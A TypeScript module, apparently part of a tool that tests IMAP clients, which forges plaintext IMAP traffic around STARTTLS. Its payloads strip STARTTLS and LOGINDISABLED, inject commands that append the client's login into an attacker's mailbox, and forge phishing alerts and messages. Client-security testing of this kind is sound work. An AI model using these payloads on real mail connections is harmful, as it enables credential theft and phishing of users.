/** The lies that plaintext IMAP makes possible about STARTTLS (RFC 2595 section 9, RFC 9051 section 11.3). */
import { concat, fromText, toText } from '../../bytes/hex';
import type { Forgery } from '../dialect';

import { capabilitiesOf, parseResponse } from './response';

export const forgery: Forgery = {
  // With LOGINDISABLED still there, a client would keep its password to itself.
  withoutOffer: (message) =>
    offers(message)
      ? inList(message, (list) =>
          list.replace(/ STARTTLS(?=[ \]\r])/gi, '').replace(/ LOGINDISABLED(?=[ \]\r])/gi, ' AUTH=PLAIN'),
        )
      : message,
  maskedOffer: (message) => inList(message, (list) => list.replace(/ STARTTLS(?=[ \]\r])/gi, ' XXXXXXXA')),
  refusal: (request, permanence) => {
    const tag = toText(request).split(' ', 1)[0] ?? '';
    return fromText(
      permanence === 'temporary'
        ? `${tag} NO [UNAVAILABLE] TLS is not available due to a local problem.\r\n`
        : `${tag} BAD TLS support isn't enabled.\r\n`,
    );
  },
  lies: {
    // The client's next commands are answered by these, tag for tag; its login becomes a mail in the attacker's mailbox.
    commands: (request, { account, task }) => {
      const next = tagsAfter(request);
      const swallowed =
        `${next(1)} CAPABILITY\r\n${next(2)} LOGIN ${task.userName} ""`.length + task.passwordLength;
      return concat(
        request,
        lines(
          `${next(1)} LOGIN ${account.user} ${account.password}`,
          `${next(2)} NOOP`,
          `${next(3)} NOOP`,
          `${next(4)} APPEND INBOX {${swallowed}+}`,
        ),
      );
    },
    responses: (goAhead, { host }) => {
      const next = tagsAfter(goAhead);
      const mail = `From: "Your provider" <help@${host}>\r\nSubject: Confirm your password\r\n\r\nhttps://${host}/\r\n`;
      return concat(
        goAhead,
        lines(
          '* CAPABILITY IMAP4rev1 AUTH=PLAIN',
          `${next(1)} OK done`,
          `${next(2)} OK Logged in`,
          '* 1 EXISTS',
          `${next(3)} OK [READ-WRITE] Select completed.`,
          `* 1 FETCH (BODY[] {${mail.length}}\r\n${mail})`,
          `${next(4)} OK Fetch completed.`,
        ),
      );
    },
    session: (request, { account }) => concat(lines(`x LOGIN ${account.user} ${account.password}`), request),
    capabilities: (offer) =>
      inList(offer, (list) => list.replace(/ SASL-IR| LITERAL\+| ID(?=[ \]\r])/gi, '')),
    greeting: () => lines('* PREAUTH [CAPABILITY IMAP4rev1] Logged in.'),
    referral: (greeting, { host, task }) => {
      const text = toText(greeting);
      return fromText(
        text.replace(
          /^\* OK (?:\[[^\]]*\] )?.*/,
          `* OK [REFERRAL imap://${task.userName}@${host}/] Try there.`,
        ),
      );
    },
    alert: (goAhead, { host }) =>
      concat(lines(`* OK [ALERT] Your mailbox is locked. Unlock it at https://${host}/`), goAhead),
    mailbox: (goAhead, { host }) =>
      concat(lines(`* LIST () "/" "Locked! See ${host}"`, '* 54321 EXISTS'), goAhead),
    // LOGIN needs no word in the list: that it is not forbidden is enough.
    logins: (offer) =>
      inList(offer, (list) =>
        list
          .replace(/ (?:STARTTLS|LOGINDISABLED|AUTH=[^ \]\r]*)(?=[ \]\r])/gi, '')
          .replace(/(?=[\]\r]$)/, ' AUTH=PLAIN'),
      ),
    'no-capabilities': (genuine) => {
      const [tag = ''] = toText(genuine).split(' ', 1);
      return lines(tag === '*' ? '* OK ready.' : `${tag} BAD Not implemented`);
    },
    'no-answer': (request) => lines(`${toText(request).split(' ', 1)[0] ?? ''} NEVERMIND continue`),
    // The server's list forbids the login; without that word the client has nothing to stop it.
    'early-answer': (offer) =>
      concat(
        inList(offer, (list) => list.replace(/ LOGINDISABLED(?=[ \]\r])/gi, ' AUTH=PLAIN')),
        lines('a1 OK Begin TLS negotiation now.'),
      ),
  },
};

const lines = (...said: readonly string[]): Uint8Array =>
  fromText(said.map((line) => `${line}\r\n`).join(''));

/** The tags that will come: this client counts. */
function tagsAfter(message: Uint8Array): (count: number) => string {
  const [, word = 'a', number = '0'] = /^([A-Za-z]*)(\d+) /m.exec(toText(message)) ?? [];
  return (count) => `${word}${Number(number) + count}`;
}

function offers(message: Uint8Array): boolean {
  const response = parseResponse(message);
  return response !== null && capabilitiesOf(response)?.includes('STARTTLS') === true;
}

/** Changes only the list: the untagged response, or the response code up to its bracket. */
const inList = (message: Uint8Array, change: (list: string) => string): Uint8Array =>
  fromText(toText(message).replace(/^[^ ]+ (?:(?:OK|NO|BAD|PREAUTH) \[)?CAPABILITY [^\]\r]*[\]\r]/i, change));
